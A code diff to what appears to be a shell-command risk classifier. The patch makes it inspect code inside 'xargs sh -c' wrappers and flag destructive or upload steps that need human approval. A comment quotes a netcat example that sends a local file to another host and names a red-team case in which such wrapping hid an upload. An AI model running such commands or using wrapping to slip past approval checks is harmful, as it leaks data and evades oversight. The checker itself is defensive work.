@@ -41,6 +41,14 @@ def _shell(run: _Run) -> None:
     if code is not None and run.xargs and (not code or "{}" in code or code.strip() in (":::", "::::")):
         run.flag("unknown", f"{name} -c runs code taken from its input", risk="runs-code")
         run.acc.unresolved = True
+        if code and code.strip() not in (":::", "::::"):
+            # the placeholder hides the paths, not the programs: an upload or a force push in the script still
+            # needs a person (`xargs -I@ sh -c 'nc @ 80 < f'`, redteam2 R2-up-nc-wrapped-xargs)
+            inner = run.verdict(code)
+            if inner.kind == "destructive":
+                run.flag("destructive", f"{name} -c: {inner.reasons[0] if inner.reasons else 'destructive'}")
+            if "upload" in inner.risks:
+                run.flag("mutating", f"{name} -c sends local data to another host", "upload")
         return
     if code is not None:
         if code_w is not None and code_w.dyn:
